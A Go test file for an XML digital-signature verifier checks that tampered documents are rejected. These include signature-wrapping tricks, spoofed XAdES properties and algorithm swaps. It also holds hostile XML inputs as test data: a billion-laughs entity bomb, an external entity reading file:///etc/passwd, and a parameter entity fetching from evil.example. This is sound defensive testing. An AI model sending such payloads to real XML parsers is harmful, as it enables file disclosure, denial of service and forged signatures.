package xmldsig_test

import (
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/openjpki/jpki/verifier/xmldsig"
	"github.com/openjpki/jpki/verifier/xmldsig/c14n"
)

// replace replaces the first occurrence of from, which must be there.
func replace(t testing.TB, s, from, to string) string {
	t.Helper()
	if !strings.Contains(s, from) {
		t.Fatalf("nothing to replace: %q", from)
	}
	return strings.Replace(s, from, to, 1)
}

// cut returns an element of a document as it is written.
func cut(t testing.TB, doc, name string) string {
	t.Helper()
	from, to := strings.Index(doc, "<"+name), strings.Index(doc, "</"+name+">")
	if from < 0 || to < from {
		t.Fatalf("no element %s", name)
	}
	return doc[from : to+len(name)+3]
}

// What an attacker makes of a sound document, and what a signer may have signed that readers would not agree on.
func TestAttacks(t *testing.T) {
	id, evil := newIdentity(t, ecSHA256), newIdentity(t, ecSHA256)
	whole, around, partial, xades := id.enveloped(t), id.enveloping(t), id.partial(t), id.xades(t)
	item := cut(t, partial, "item")
	signature := cut(t, partial, "ds:Signature")
	fakeItem := `<item Id="I" n="1000000">x</item>`
	twin := id // another certificate for the same key
	twin.cert = certify(t, id.key)
	value := cut(t, whole, "ds:SignatureValue")
	digest := cut(t, whole, "ds:DigestValue")
	info := cut(t, whole, "ds:SignedInfo")
	sha256 := "http://www.w3.org/2001/04/xmlenc#sha256"
	fakeProperties := strings.NewReplacer(`Id="P"`, `Id="Q"`, "2026-11-23", "1999-01-01").Replace(id.properties())
	// anyway signs whatever the template says, about an item.
	anyway := func(tm template, document string) string {
		if tm.parts == nil {
			tm.parts = []part{{uri: "#I", transforms: []string{exclusive}}}
		}
		return id.sign(t, tm, document)
	}

	for _, c := range []struct {
		name string
		doc  string
		want error
	}{
		// Changes.
		{"text changed", replace(t, whole, "<amount>1<", "<amount>9<"), xmldsig.ErrDigest},
		{"attribute added", replace(t, whole, "<amount>", `<amount n="">`), xmldsig.ErrDigest},
		{"namespace of the root changed", replace(t, whole, "urn:order", "urn:other"), xmldsig.ErrDigest},
		{"element added beside the signature", replace(t, whole, "</order>", "<amount>9</amount></order>"), xmldsig.ErrDigest},
		{"default attribute by a document type", `<!DOCTYPE order [<!ATTLIST amount currency CDATA "USD">]>` + whole, xmldsig.ErrDigest},
		{"object changed", replace(t, around, ">1<", ">9<"), xmldsig.ErrDigest},

		// Wrapping.
		{"same name twice, the fake first", replace(t, partial, "<item", fakeItem+"<item"), xmldsig.ErrWrapped},
		{"same name twice, the fake last", replace(t, partial, "</item>", "</item>"+fakeItem), xmldsig.ErrWrapped},
		{"same name, spelt ID", replace(t, partial, "<item", replace(t, fakeItem, "Id=", "ID=")+"<item"), xmldsig.ErrWrapped},
		{"same name, spelt id", replace(t, partial, "<item", replace(t, fakeItem, "Id=", "id=")+"<item"), xmldsig.ErrWrapped},
		{"same name, spelt xml:id", replace(t, partial, "<item", replace(t, fakeItem, "Id=", "xml:id=")+"<item"), xmldsig.ErrWrapped},
		{"same name, by a document type", `<!DOCTYPE order [<!ATTLIST amount name ID #IMPLIED>]>` + replace(t, partial, "<amount>", `<amount name="I">`), xmldsig.ErrWrapped},
		{"same name, hidden in an object", replace(t, partial, "</ds:Signature>", "<ds:Object>"+item+"</ds:Object></ds:Signature>"), xmldsig.ErrWrapped},
		{"signature moved to another document", `<order xmlns="urn:order">` + fakeItem + signature + "</order>", xmldsig.ErrDigest},
		{"what was signed is gone", strings.Replace(partial, item, "", 1), xmldsig.ErrNotFound},

		// XAdES.
		{"fake properties in another object", replace(t, xades, "</ds:Signature>", object(fakeProperties)+"</ds:Signature>"), xmldsig.ErrWrapped},
		{"fake properties first", replace(t, xades, "<ds:Object>", object(fakeProperties)+"<ds:Object>"), xmldsig.ErrWrapped},
		{"fake properties beside, the signed ones moved", strings.Replace(xades, object(id.properties()), object("<x>"+id.properties()+"</x>")+object(fakeProperties), 1), xmldsig.ErrWrapped},
		{"fake properties of the same name", replace(t, xades, "</ds:Signature>", object("<x>"+id.properties()+"</x>")+"</ds:Signature>"), xmldsig.ErrWrapped},
		{"fake properties before the signed ones", replace(t, xades, "<xades:SignedProperties", cut(t, fakeProperties, "xades:SignedProperties")+"<xades:SignedProperties"), xmldsig.ErrWrapped},
		{"properties unsigned", replace(t, whole, "</ds:Signature>", object(id.properties())+"</ds:Signature>"), xmldsig.ErrWrapped},
		{"properties changed", replace(t, xades, "2026-11-23", "1999-01-01"), xmldsig.ErrDigest},
		{"properties of another signature", anyway(template{parts: id.xadesTemplate().parts, objects: strings.Replace(object(id.properties()), "#S", "#T", 1)}, order), xmldsig.ErrWrapped},
		{"properties whose text alone is signed", anyway(template{parts: []part{{uri: "#P", transforms: []string{dsig + "base64"}}}, objects: object(id.properties())}, order), xmldsig.ErrWrapped},
		{"properties out of which a filter takes", anyway(template{parts: []part{{uri: "#P", transforms: []string{
			`<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(self::text())</ds:XPath></ds:Transform>`,
		}}}, objects: object(id.properties())}, order), xmldsig.ErrWrapped},
		{"properties and nothing left of them", anyway(template{parts: []part{{uri: "#P", transforms: []string{enveloped}}}, objects: object(id.properties())}, order), xmldsig.ErrWrapped},
		{"no certificate among the references", anyway(template{parts: id.xadesTemplate().parts, objects: strings.Replace(object(id.properties()), cut(t, id.properties(), "xades:SigningCertificateV2"), "<xades:SigningCertificateV2/>", 1)}, order), xmldsig.ErrMalformed},
		{"another certificate of the same key", replace(t, xades, id.keyInfo(), twin.keyInfo()), xmldsig.ErrCertificate},
		{"the key without its certificate", replace(t, xades, id.keyInfo(), ""), xmldsig.ErrNoKey},
		{"another's certificate", replace(t, whole, id.keyInfo(), evil.keyInfo()), xmldsig.ErrValue},

		// The structure of a signature.
		{"no reference", id.sign(t, template{parts: []part{}}, order), xmldsig.ErrMalformed},
		{"reference of another namespace", id.sign(t, template{info: `<x:Reference xmlns:x="urn:x" URI=""><ds:DigestMethod Algorithm="` + sha256 + `"/><ds:DigestValue>AAAA</ds:DigestValue></x:Reference>`}, order), xmldsig.ErrMalformed},
		{"reference and one of another namespace", anyway(template{info: `<Reference URI=""/>`}, order), xmldsig.ErrMalformed},
		{"second SignedInfo", replace(t, whole, info, info+info), xmldsig.ErrMalformed},
		{"second SignedInfo last", replace(t, whole, "</ds:Signature>", info+"</ds:Signature>"), xmldsig.ErrMalformed},
		{"another's SignedInfo first", replace(t, whole, info, cut(t, evil.enveloped(t), "ds:SignedInfo")+info), xmldsig.ErrMalformed},
		{"SignedInfo of another namespace first", replace(t, whole, info, `<SignedInfo/>`+info), xmldsig.ErrMalformed},
		{"second value", replace(t, whole, value, value+value), xmldsig.ErrMalformed},
		{"no value", strings.Replace(whole, value, "", 1), xmldsig.ErrMalformed},
		{"empty value", strings.Replace(whole, value, "<ds:SignatureValue/>", 1), xmldsig.ErrValue},
		{"value cut", strings.Replace(whole, value, value[:len("<ds:SignatureValue>")+44]+"</ds:SignatureValue>", 1), xmldsig.ErrValue},
		{"element in the value", replace(t, whole, "<ds:SignatureValue>", "<ds:SignatureValue><x/>"), xmldsig.ErrMalformed},
		{"element in a digest", anyway(template{parts: []part{{uri: "#I", transforms: []string{exclusive}, more: "<x>AAAA</x>"}}}, order), xmldsig.ErrMalformed},
		{"second digest", replace(t, whole, digest, digest+digest), xmldsig.ErrMalformed},
		{"KeyInfo behind an Object", replace(t, whole, id.keyInfo(), "<ds:Object/>"+id.keyInfo()), xmldsig.ErrMalformed},
		{"second KeyInfo", replace(t, whole, id.keyInfo(), id.keyInfo()+evil.keyInfo()), xmldsig.ErrMalformed},
		{"reference that names nothing", anyway(template{parts: []part{{uri: "#"}}}, order), xmldsig.ErrMalformed},
		{"reference by a full XPointer", anyway(template{parts: []part{{uri: "#xpointer(//item)"}}}, order), xmldsig.ErrUnsupported},

		// Algorithms.
		{"HMAC", anyway(template{method: "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"}, order), xmldsig.ErrUnsupported},
		{"HMAC cut to nothing", anyway(template{method: `<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>`}, order), xmldsig.ErrUnsupported},
		{"parameters of an algorithm that has none", anyway(template{method: `<ds:SignatureMethod Algorithm="` + ecSHA256 + `"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>`}, order), xmldsig.ErrUnsupported},
		{"algorithm of another key", anyway(template{method: rsaSHA256}, order), xmldsig.ErrValue},
		{"another hash function", anyway(template{method: ecSHA384}, order), xmldsig.ErrValue},
		{"algorithm changed", replace(t, whole, "ecdsa-sha256", "ecdsa-sha384"), xmldsig.ErrValue},
		{"digest method changed", strings.Replace(whole, `DigestMethod Algorithm="`+sha256, `DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha512`, 1), xmldsig.ErrValue},
		{"canonical form changed", replace(t, whole, `CanonicalizationMethod Algorithm="`+exclusive, `CanonicalizationMethod Algorithm="http://www.w3.org/2006/12/xml-c14n11`), xmldsig.ErrValue},
		{"canonical form that drops all", anyway(template{canonical: `<ds:CanonicalizationMethod Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/>`}, order), xmldsig.ErrUnsupported},
		{"canonical form with a filter", anyway(template{canonical: `<ds:CanonicalizationMethod Algorithm="` + exclusive + `"><ds:XPath>/</ds:XPath></ds:CanonicalizationMethod>`}, order), xmldsig.ErrUnsupported},
		{"transforms changed", replace(t, partial, `<ds:Transform Algorithm="`+exclusive, `<ds:Transform Algorithm="http://www.w3.org/2006/12/xml-c14n11`), xmldsig.ErrValue},
		{"XSLT", anyway(template{parts: []part{{uri: "#I", transforms: []string{"http://www.w3.org/TR/1999/REC-xslt-19991116"}}}}, order), xmldsig.ErrUnsupported},
	} {
		if err := verdict([]byte(c.doc), xmldsig.Options{}); !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", c.name, err, c.want)
		}
	}
	for _, doc := range []string{whole, around, partial, xades} {
		if err := verdict([]byte(doc), xmldsig.Options{}); err != nil {
			t.Error(err)
		}
	}
}

// Comments do not count in most canonical forms: what is read is then what is read without them.
func TestComments(t *testing.T) {
	id := newIdentity(t, ecSHA256)
	partial := id.partial(t)
	for _, name := range []string{"ds:DigestValue", "ds:SignatureValue", "ds:X509Certificate", "item"} {
		element := cut(t, partial, name)
		at := strings.IndexByte(element, '>') + 1 + len("約")
		commented := strings.Replace(partial, element, element[:at]+"<!-- evil -->"+element[at:], 1)
		all, err := xmldsig.Read([]byte(commented), xmldsig.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if v := all[0].Verify(); v.Err != nil {
			t.Errorf("%s: %v", name, v.Err)
		}
		if n, ok := all[0].References[0].Signed(); !ok || n.Text() != "約款 & 申込" {
			t.Errorf("%s: signed is %q", name, n.Text())
		}
	}
	pointed := id.sign(t, template{parts: []part{{uri: "#xpointer(/)", transforms: []string{enveloped, exclusive + "WithComments"}}}}, order)
	if err := verdict([]byte(pointed), xmldsig.Options{}); err != nil {
		t.Error(err)
	}
	if err := verdict([]byte(replace(t, pointed, "<amount>", "<!-- x --><amount>")), xmldsig.Options{}); !errors.Is(err, xmldsig.ErrDigest) {
		t.Error(err)
	}
}

// An element that is moved away takes its signature along: who asks what was signed is told.
func TestSignedElement(t *testing.T) {
	id := newIdentity(t, ecSHA256)
	partial := id.partial(t)
	item := cut(t, partial, "item")
	moved := strings.Replace(partial, item, `<item n="1000000">x</item><old>`+item+"</old>", 1)
	all, err := xmldsig.Read([]byte(moved), xmldsig.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if v := all[0].Verify(); v.Err != nil {
		t.Fatal(v.Err)
	}
	r := all[0].References[0]
	n, ok := r.Signed()
	if _, parent := n.Parent().Name(); !ok || parent != "old" || r.Scope != xmldsig.PartOfDocument {
		t.Errorf("what was signed stands in %q", parent)
	}
}

// Data outside are found by the name that was signed.
func TestDetached(t *testing.T) {
	id := newIdentity(t, ecSHA256)
	files := map[string]string{"contract.txt": "1 yen"}
	var asked []string
	o := xmldsig.Options{Resolve: func(uri string) ([]byte, bool) {
		asked = append(asked, uri)
		text, ok := files[uri]
		return []byte(text), ok
	}}
	files["a.xml"] = `<a Id="A"></a>`
	tm := template{parts: []part{{uri: "a.xml"}}}
	document := strings.Replace(tm.String(), placeholder, base64.StdEncoding.EncodeToString(sum(files["a.xml"])), 1)
	signed := id.fill(t, document)
	for _, c := range []struct {
		name    string
		doc     string
		content string
		want    error
	}{
		{"as it was signed", signed, `<a Id="A"></a>`, nil},
		{"changed", signed, `<a Id="A"/>`, xmldsig.ErrDigest},
		{"absent", signed, "", xmldsig.ErrNotFound},
		{"named otherwise", strings.Replace(signed, `URI="a.xml"`, `URI="contract.txt"`, 1), `<a Id="A"></a>`, xmldsig.ErrValue},
		{"not named", strings.Replace(signed, ` URI="a.xml"`, ``, 1), `<a Id="A"></a>`, xmldsig.ErrValue},
		{"put inside", strings.Replace(signed, `URI="a.xml"`, `URI="#A"`, 1), `<a Id="A"></a>`, xmldsig.ErrValue},
	} {
		if files["a.xml"] = c.content; c.content == "" {
			delete(files, "a.xml")
		}
		if err := verdict([]byte(c.doc), o); !errors.Is(err, c.want) || c.want == nil && err != nil {
			t.Errorf("%s: %v, want %v", c.name, err, c.want)
		}
	}
	if len(asked) == 0 || asked[0] != "a.xml" {
		t.Errorf("asked for %q", asked)
	}
	if err := verdict([]byte(signed), xmldsig.Options{}); !errors.Is(err, xmldsig.ErrNotFound) {
		t.Errorf("nobody to ask: %v", err)
	}
}

// What costs much is refused before it does.
func TestBombs(t *testing.T) {
	id := newIdentity(t, ecSHA256)
	var laughs strings.Builder
	laughs.WriteString(`<!DOCTYPE r [<!ENTITY e0 "ha">`)
	for i := 1; i < 12; i++ {
		fmt.Fprintf(&laughs, `<!ENTITY e%d "%s">`, i, strings.Repeat(fmt.Sprintf("&e%d;", i-1), 30))
	}
	laughs.WriteString("]><r>&e11;</r>")
	var attributes, prefixes, levels strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&attributes, ` a%d=""`, i)
		fmt.Fprintf(&prefixes, " p%d", i)
		fmt.Fprintf(&levels, "<a>")
	}
	xpath := func(source string) string {
		return `<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>` + source + `</ds:XPath></ds:Transform>`
	}
	// nested is an order inside 300 elements, each with 100 attributes made of a pattern.
	nested := func(pattern string) string {
		var b strings.Builder
		for i := range 100 {
			fmt.Fprintf(&b, pattern, i)
		}
		return strings.Repeat("<a"+b.String()+">", 300) + order + strings.Repeat("</a>", 300)
	}
	filtered := func(source string) template {
		return template{parts: []part{{transforms: []string{enveloped, xpath(source), "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"}}}}
	}
	many := func(transforms ...string) string {
		tm := template{}
		for range 300 {
			tm.parts = append(tm.parts, part{uri: "#I", transforms: transforms})
		}
		return id.sign(t, tm, strings.Replace(order, "約款 &amp; 申込", strings.Repeat("QUJD", 10000), 1))
	}
	texts := many(dsig + "base64")
	if err := verdict([]byte(texts), xmldsig.Options{}); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name string
		doc  string
		o    xmldsig.Options
		want error
	}{
		{"a billion laughs", laughs.String(), xmldsig.Options{}, xmldsig.ErrMalformed},
		{"an entity inside itself", `<!DOCTYPE r [<!ENTITY e "&e;">]><r>&e;</r>`, xmldsig.Options{}, xmldsig.ErrMalformed},
		{"an entity from elsewhere", `<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>`, xmldsig.Options{}, xmldsig.ErrMalformed},
		{"parameter entities", `<!DOCTYPE r [<!ENTITY % e SYSTEM "http://evil.example/"> %e;]><r/>`, xmldsig.Options{}, xmldsig.ErrMalformed},
		{"attributes", "<r" + attributes.String() + "/>", xmldsig.Options{}, xmldsig.ErrMalformed},
		{"depth", levels.String(), xmldsig.Options{}, xmldsig.ErrMalformed},
		{"signatures", "<r>" + strings.Repeat(`<ds:Signature xmlns:ds="`+dsig+`"/>`, 101) + "</r>", xmldsig.Options{}, xmldsig.ErrUnsupported},
		{"transforms", id.sign(t, template{parts: []part{{uri: "#I", transforms: strings.Fields(strings.Repeat(exclusive+" ", 17))}}}, order), xmldsig.Options{}, xmldsig.ErrUnsupported},
		{"prefixes", id.sign(t, template{
			canonical: `<ds:CanonicalizationMethod Algorithm="` + exclusive + `"><e:InclusiveNamespaces xmlns:e="` + exclusive + `" PrefixList="` + prefixes.String() + `"/></ds:CanonicalizationMethod>`,
			parts:     []part{{uri: "#I"}},
		}, order), xmldsig.Options{}, xmldsig.ErrUnsupported},
		{"XPath", id.sign(t, template{parts: []part{{transforms: []string{enveloped, xpath("count(//*[count(//*[count(//*[count(//*[count(//*) > 0]) > 0]) > 0]) > 0]) > 0"), exclusive}}}}, order), xmldsig.Options{}, xmldsig.ErrUnsupported},
		{"XPath too deep", id.sign(t, template{parts: []part{{transforms: []string{enveloped, xpath(strings.Repeat("(", 1000) + "1" + strings.Repeat(")", 1000)), exclusive}}}}, order), xmldsig.Options{}, xmldsig.ErrUnsupported},
		{"references that each cost a little", many(exclusive), xmldsig.Options{Limits: c14n.Limits{Work: 1000}}, xmldsig.ErrUnsupported},
		{"transforms that each cost a little", many(exclusive, exclusive, exclusive), xmldsig.Options{Limits: c14n.Limits{Work: 5000}}, xmldsig.ErrUnsupported},
		{"languages of ancestors", id.sign(t, filtered("lang('ja')"), nested(` a%d=""`)), xmldsig.Options{}, xmldsig.ErrUnsupported},
		{"namespaces of ancestors", id.sign(t, filtered("self::node()"), nested(` xmlns:a%d="u"`)), xmldsig.Options{Limits: c14n.Limits{Work: 5_000_000}}, xmldsig.ErrUnsupported},
		{"the same text again and again", texts, xmldsig.Options{Limits: c14n.Limits{Work: 30000}}, xmldsig.ErrUnsupported},
	} {
		if err := verdict([]byte(c.doc), c.o); !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", c.name, err, c.want)
		}
	}
	if err := verdict([]byte(many(exclusive)), xmldsig.Options{}); err != nil {
		t.Errorf("many references: %v", err)
	}
}

// Whatever octet is changed: a document that is still accepted has the same covered content.
func TestEveryOctetCounts(t *testing.T) {
	id := newIdentity(t, ecSHA256)
	docs := map[string]string{"enveloped": id.enveloped(t), "enveloping": id.enveloping(t), "XAdES": id.xades(t)}
	known := map[string]bool{}
	for _, doc := range docs {
		for _, content := range contents(t, doc) {
			known[content] = true
		}
	}
	for name, doc := range docs {
		t.Run(name, func(t *testing.T) {
			value := strings.Index(doc, "<ds:SignatureValue>")
			harmless := 0
			for at := range doc {
				for _, c := range []byte(" &<'1") {
					changed := []byte(doc)
					if changed[at] == c {
						continue
					}
					if changed[at] = c; verdict(changed, xmldsig.Options{Certificates: [][]byte{id.cert}}) != nil {
						continue
					}
					if at < value {
						harmless++
					}
					for _, content := range contents(t, string(changed)) {
						if !known[content] {
							t.Fatalf("octet %d may be %q", at, c)
						}
					}
				}
			}
			if harmless > 10 { // the name of the signature, say, which nothing refers to
				t.Errorf("%d changes in front of the value were accepted", harmless)
			}
		})
	}
}

// contents returns what the references of a document cover, and the SignedInfo, in canonical form.
func contents(t testing.TB, document string) (out []string) {
	t.Helper()
	all, err := xmldsig.Read([]byte(document), xmldsig.Options{})
	if err != nil {
		t.Fatal(err)
	}
	put := func(s c14n.Set) {
		var b strings.Builder
		if err := s.Write(&b, c14n.Method{Exclusive: true}); err != nil {
			t.Fatal(err)
		}
		out = append(out, b.String())
	}
	for _, s := range all {
		for i := range s.References {
			n, ok := s.References[i].Signed()
			if !ok {
				continue
			}
			set := n.Subtree(false)
			if s.References[i].Scope == xmldsig.WholeDocument {
				for _, signature := range n.Descendants(dsig, "Signature") {
					set = set.Without(signature)
					put(signature.Elements()[0].Subtree(false))
				}
			}
			put(set)
		}
	}
	return out
}
